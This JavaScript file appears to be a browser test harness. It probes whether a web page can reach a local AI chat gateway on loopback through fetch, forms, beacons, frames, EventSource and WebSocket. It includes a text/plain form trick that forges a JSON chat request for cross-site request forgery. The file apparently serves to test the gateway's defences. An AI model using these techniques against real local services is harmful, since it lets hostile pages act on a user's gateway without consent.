/*
 * Everything a page can do to a server on loopback. Runs in the browser, as a page of its own and inside a frame.
 * Each way gives one line, `name: what the page learned`, once the browser is done with it.
 */

const CHAT = "/v1/chat/completions";
const MODELS = "/v1/models";
const BODY = JSON.stringify({ model: "sim/sim-1", messages: [{ role: "user", content: "spend" }] });

const learned = (promise) =>
  promise.then(
    (response) => `${response.type} ${response.status}`,
    () => "refused",
  );

const firstEvent = (target, names) =>
  new Promise((resolve) => {
    for (const name of names) target.addEventListener(name, () => resolve(name), { once: true });
  });

function addElement(name, attributes) {
  const element = document.createElement(name);
  const done = firstEvent(element, ["load", "error"]);
  Object.assign(element, attributes);
  document.body.append(element);
  return done;
}

async function submitForm(url, enctype) {
  const frame = document.createElement("iframe");
  frame.name = `frame-${enctype}`;
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, { method: "post", action: url, enctype, target: frame.name });
  const field = document.createElement("input");
  // In text/plain a form sends `name=value`: split at an equals sign, any JSON can be written so.
  Object.assign(field, { name: `${BODY.slice(0, -1)},"x":"`, value: '"}' });
  form.append(field);
  document.body.append(form);
  const done = firstEvent(frame, ["load"]);
  form.submit();
  return done;
}

async function connectWebSocket(url) {
  try {
    return await firstEvent(new WebSocket(url), ["open", "error"]);
  } catch {
    return "refused";
  }
}

/** Tries every way against `gateway`, an origin such as `http://127.0.0.1:8441`. */
// The page this script is put into calls it.
async function attack(gateway) {
  const at = (path, way) => `${gateway}${path}?way=${way}`;
  const post = (way, init) => fetch(at(CHAT, way), { method: "POST", body: BODY, ...init });
  const json = { "content-type": "application/json" };
  const ways = {
    "no-cors text": learned(post("text", { mode: "no-cors", headers: { "content-type": "text/plain" } })),
    "cors json": learned(post("json", { headers: json })),
    "cors Bearer anonymous": learned(
      post("literal", { headers: { ...json, authorization: "Bearer anonymous" } }),
    ),
    "no-cors with credentials": learned(post("credentials", { mode: "no-cors", credentials: "include" })),
    "cors read": learned(fetch(at(MODELS, "read"))),
    "form text/plain": submitForm(at(CHAT, "form-text"), "text/plain"),
    "form urlencoded": submitForm(at(CHAT, "form-url"), "application/x-www-form-urlencoded"),
    "event source": firstEvent(new EventSource(at(MODELS, "events")), ["open", "error"]),
    image: addElement("img", { src: at(MODELS, "image") }),
    script: addElement("script", { src: at(MODELS, "script") }),
    frame: addElement("iframe", { src: at(MODELS, "frame") }),
    beacon: Promise.resolve(navigator.sendBeacon(at(CHAT, "beacon"), BODY)),
    "web socket": connectWebSocket(at(MODELS, "socket").replace("http:", "ws:")),
  };
  const names = Object.keys(ways);
  const outcomes = await Promise.all(Object.values(ways));
  return names.map((name, index) => `${name}: ${outcomes[index]}`);
}

globalThis.attack = attack;
